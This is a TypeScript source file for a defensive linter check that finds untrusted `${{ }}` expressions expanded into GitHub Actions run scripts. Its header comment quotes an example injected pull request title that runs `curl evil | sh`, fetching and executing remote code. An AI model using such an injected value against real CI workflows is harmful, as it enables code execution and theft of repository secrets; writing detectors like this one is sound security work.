/**
 * `${{ }}` is expanded into a `run:` script before the shell sees it, so a pull request title such as
 * `"; curl evil | sh #` becomes code. Untrusted values belong in `env:` and are read as "$VARIABLE".
 * The finding points at the expression inside the script.
 */
import type { BuiltinCheck } from './registry.js';
import { findInNode, offsetOf, rangeAt } from './text.js';
import { expressionsIn, stepsOf } from './workflow-steps.js';
import { linearRegExp } from '../linear-regexp.js';

export const workflowInjection: BuiltinCheck = {
  name: 'workflow-injection',
  scope: 'files',
  description: "Searches the `${{ }}` expressions inside `run:` scripts (and actions/github-script's `script:`) for the untrusted contexts given as regular expressions.",
  params: {
    type: 'object',
    additionalProperties: false,
    required: ['untrusted'],
    properties: { untrusted: { type: 'array', minItems: 1, items: { type: 'string', minLength: 1 } } },
  },
  regexParams: (params) => (params.untrusted as string[]).map((pattern, index) => ({ path: ['untrusted', index], pattern })),
  run(context) {
    const untrusted = (context.params.untrusted as string[]).map((pattern) => linearRegExp(pattern));
    for (const file of context.files()) {
      context.tick(file.path);
      for (const doc of file.documents) {
        for (const step of stepsOf(file, doc)) {
          const scripts: Array<{ path: Array<string | number>; text: unknown }> = [{ path: [...step.path, 'run'], text: step.value.run }];
          const uses = typeof step.value.uses === 'string' ? step.value.uses : '';
          const withs = step.value.with;
          if (uses.startsWith('actions/github-script@') && withs && typeof withs === 'object') scripts.push({ path: [...step.path, 'with', 'script'], text: (withs as Record<string, unknown>).script });
          for (const script of scripts) {
            if (typeof script.text !== 'string') continue;
            const node = doc.locate(script.path);
            const nodeStart = offsetOf(file, node.line, node.column);
            let searchFrom = 0;
            for (const expression of expressionsIn(script.text)) {
              context.tick();
              const bad = untrusted.find((pattern) => pattern.test(expression.inner));
              // Found in the source, the finding sits on the expression itself; otherwise on the script.
              const offset = findInNode(file, node, expression.whole, searchFrom);
              if (offset !== undefined) searchFrom = offset - nodeStart + expression.whole.length;
              if (!bad) continue;
              const range = offset !== undefined ? rangeAt(file, offset, expression.whole.length) : node;
              context.report(file.path, range, `"${expression.whole}" is untrusted input expanded into a script: pass it through env: and use "$VARIABLE"`);
            }
          }
        }
      }
    }
  },
};
